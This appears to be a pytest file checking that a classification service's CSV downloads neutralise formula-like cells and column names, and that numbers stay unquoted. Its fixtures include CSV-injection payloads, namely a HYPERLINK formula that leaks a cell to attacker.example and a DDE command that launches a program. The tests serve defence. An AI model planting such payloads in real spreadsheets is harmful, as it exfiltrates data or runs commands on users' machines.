"""The one CSV writer for downloads: cells and column names a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io

import pandas as pd

from core.evaluation.decision import DecisionRule
from core.serving.csv_export import to_csv_bytes
from core.serving.predict_service import score

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2, "Click for your prize")'


def cells(data: bytes) -> list[list[str]]:
    """The CSV as a spreadsheet's importer splits it: raw cell strings, quoting undone."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


class FixedPredictor:
    """A model that always gives the same probabilities: the test is about writing the result, not the model."""

    labels = ["@x", "-1"]

    def predict(self, inputs):
        return [{"@x": 0.25, "-1": 0.75} for _ in inputs]


def test_a_scored_batch_downloads_neutralised():
    texts = [HYPERLINK, "+44 20 7946 0000 call now", "@SUM(A1:A9)", "-2+3", "\tindented", "\r=cmd|' /C calc'!A0",
             "plain text"]
    result = score(FixedPredictor(), texts, DecisionRule(tuple(FixedPredictor.labels)))
    result["@x"] = "note"  # a column named like a formula
    rows = cells(to_csv_bytes(result))
    assert len(rows) == 1 + len(texts)  # a line break inside a text stays inside its quoted cell
    assert rows[0] == ["input", "predicted", "confidence", "uncertain", "P(@x)", "P(-1)", "'@x"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in texts[:-1]] + ["plain text"]
    assert {row[1] for row in rows[1:]} == {"-1"}  # a class named like a number is a number, not a formula
    assert rows[1][2:6] == ["0.75", "False", "0.25", "0.75"]


def test_numbers_stay_numbers_and_only_the_first_character_counts():
    frame = pd.DataFrame({"label": ["@x", "a=b", "-0.5", "1e-3", "-"], "delta": [-0.5, -1.0, 2.0, 0.0, -3.5],
                          "count": [-1, 2, 3, 4, 5]})
    rows = cells(to_csv_bytes(frame))
    assert [row[0] for row in rows[1:]] == ["'@x", "a=b", "-0.5", "1e-3", "'-"]
    assert [row[1] for row in rows[1:]] == ["-0.5", "-1.0", "2.0", "0.0", "-3.5"]
    assert [row[2] for row in rows[1:]] == ["-1", "2", "3", "4", "5"]
    assert frame["label"].tolist()[0] == "@x"  # the frame shown on the page is left as it is


def test_small_probabilities_are_written_without_scientific_notation():
    from core.serving.csv_export import to_csv_bytes

    frame = pd.DataFrame({"label": ["spam"], "probability": [4.16e-05], "confidence": [0.5]})
    text = to_csv_bytes(frame).decode()
    assert text.splitlines()[1] == '"spam",0.0000416,0.5' and "e-" not in text
